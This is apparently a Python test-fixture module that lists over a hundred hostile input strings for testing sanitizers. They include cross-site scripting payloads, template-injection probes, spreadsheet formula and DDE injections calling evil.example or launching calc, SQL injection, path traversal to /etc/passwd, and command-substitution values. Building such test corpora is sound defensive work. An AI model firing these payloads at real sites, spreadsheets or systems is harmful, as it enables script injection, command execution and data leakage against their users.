"""More than a hundred hostile values, all different: markup, scripts, formulas, directions, controls, shapes that break parsers.

``window.executed`` is counted up by whatever runs in a page. Formulas are those that spreadsheet programs are known to run,
with the characters that hide their beginning.
"""

from __future__ import annotations

_RUN = "window.executed++"

MARKUP = [
    f"<img src=x onerror={_RUN}>", f"<script>{_RUN}</script>", f"<svg onload={_RUN}>", f"javascript:{_RUN}", f"\"><img src=x onerror={_RUN}>",
    f"' onmouseover='{_RUN}", f"</textarea><script>{_RUN}</script>", "<iframe srcdoc='<script>parent.executed++</script>'>",
    f"<a href=javascript:{_RUN}>x</a>", f"{{{{constructor.constructor('{_RUN}')()}}}}", f"${{{_RUN}}}", "<style>*{display:none}</style>",
    f"<math><mtext><img src=x onerror={_RUN}>", "<!--", "-->", "]]>", "<![CDATA[", "&lt;b&gt;", "&#60;script&#62;", "%3Cscript%3E", "<b>bold</b>",
    "\\u003cscript\\u003e", f"<object data=javascript:{_RUN}>", f"<form action=javascript:{_RUN}><button>", f"<input autofocus onfocus={_RUN}>",
    f"<body onload={_RUN}>", f"<video><source onerror={_RUN}>", f"<details open ontoggle={_RUN}>", "<link rel=stylesheet href=http://evil.example/x.css>",
    "<base href=http://evil.example/>", "<meta http-equiv=refresh content=0;url=http://evil.example>", f"<IMG SRC=x OnErRoR={_RUN}>",
    f"<img/src=x/onerror={_RUN}>", f"<svg/onload={_RUN}//", f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>", f"<marquee onstart={_RUN}>",
    f"<audio src=x onerror={_RUN}>", f"<select autofocus onfocus={_RUN}>", f"<x contenteditable onblur={_RUN}>lose focus", f"<keygen autofocus onfocus={_RUN}>",
    f"<embed src=javascript:{_RUN}>", f"<isindex type=image src=1 onerror={_RUN}>", f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">", f"<xmp><script>{_RUN}</script></xmp>", f"<plaintext><script>{_RUN}</script>",
    f"<table background=javascript:{_RUN}>", f"<div style=\"background:url(javascript:{_RUN})\">", f"<div style=width:expression({_RUN})>",
    f"data:text/html,<script>{_RUN}</script>", f"vbscript:{_RUN}", f"java\tscript:{_RUN}", f"java\nscript:{_RUN}", f"&#106;avascript:{_RUN}",
    f"<script src=data:,{_RUN}></script>", f"<<script>{_RUN}//<</script>", f"<scr<script>ipt>{_RUN}</scr</script>ipt>", f"\\\"-{_RUN}//", f"'-{_RUN}-'",
    f"</script><script>{_RUN}</script>", f"</style><script>{_RUN}</script>", f"</title><script>{_RUN}</script>", f"`-{_RUN}-`", "{% raw %}{{ 7*7 }}",
    "{{ 7*7 }}", "#{7*7}", "<%= 7*7 %>", "[[7*7]]", "__proto__", "constructor", "toString",
]  # fmt: skip

FORMULAS = [
    '=HYPERLINK("http://evil.example","x")', "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", '=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://evil.example")',
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  @SUM(1)", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "'=1+1", '"=1+1"', "=1+1;=2+2", "x;=1+1;y", "x\t=1+1\ty",
    "x;@SUM(1);y", "=A1", "=-1", "=TODAY()", "={1,2}", "==1", "=\u200b1+1", "\u200b=1+1", "\ufeff=1+1",
]  # fmt: skip

SHAPES = [
    "\u202egnp.exe", "a\u200bb\u2066c", "\ufeffBOM", "\u2028line\u2029paragraph", "e\u0301\u0302\u0303\u0304", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\u00ad",
    "\u115f\u1160\u3164", "a" * 3000, "王" * 800, "'; DROP TABLE contact; --", "\" OR 1=1 --", "%s%s%n", "../../etc/passwd", "\\\\host\\share", "$(touch x)",
    "`touch x`", "null", "NaN", "1e309", "-0", "0x10", "00012", "1,5", "\u0661\u0662\u0663", "true", "\\x00", "\x7f", "\x1b[31mred\x1b[0m", "a\nb\r\nc",
]  # fmt: skip

HOSTILE = list(dict.fromkeys([*MARKUP, *FORMULAS, *SHAPES]))
